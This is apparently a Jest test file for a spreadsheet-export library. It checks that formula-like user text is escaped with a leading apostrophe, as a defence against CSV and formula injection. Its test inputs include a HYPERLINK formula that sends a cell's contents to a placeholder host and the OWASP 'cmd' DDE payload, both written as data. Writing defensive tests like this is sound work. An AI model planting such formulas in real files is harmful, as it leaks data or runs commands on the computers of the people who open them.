import { cellWriteOf, csvTextField, literalCellValue, looksLikeFormula } from "../../src/core/literal";

describe("literalCellValue: a person's text is never a formula", () => {
  it.each([
    ['=HYPERLINK("http://x.example/?x="&E2,"Bấm")', `'=HYPERLINK("http://x.example/?x="&E2,"Bấm")`],
    ["+1+1", "'+1+1"],
    ["- Tỷ lệ hộ nghèo", "'- Tỷ lệ hộ nghèo"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["＝1+1", "'＝1+1"],
    ["'giữ dấu nháy", "''giữ dấu nháy"],
  ])("%j is written as the text itself", (text, written) => {
    expect(literalCellValue(text)).toBe(written);
    const w = cellWriteOf(literalCellValue(text));
    expect(w).toEqual({ kind: "text", text, quoted: true });
  });

  // "1.185,25" used to be listed here: it is no formula, but it is now quoted as a number-like
  // text (typed-text.test.ts), so it left this list.
  it.each(["Tăng trưởng GRDP", "Hà Nội", "", " =1"])("%j is left as it is", (text) => {
    expect(literalCellValue(text)).toBe(text);
    expect(cellWriteOf(text)).toEqual({ kind: "text", text, quoted: false });
  });

  it("a formula core built stays a formula", () => {
    expect(cellWriteOf('=IFERROR(E6/D6,"")')).toEqual({ kind: "formula", formula: '=IFERROR(E6/D6,"")' });
  });

  it("CSV fields: OWASP leads are escaped, others kept", () => {
    expect(csvTextField("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
    expect(csvTextField("@SUM(1)")).toBe("'@SUM(1)");
    expect(csvTextField("Vượt")).toBe("Vượt");
    expect(looksLikeFormula("-")).toBe(true);
    expect(looksLikeFormula("Đạt")).toBe(false);
  });
});
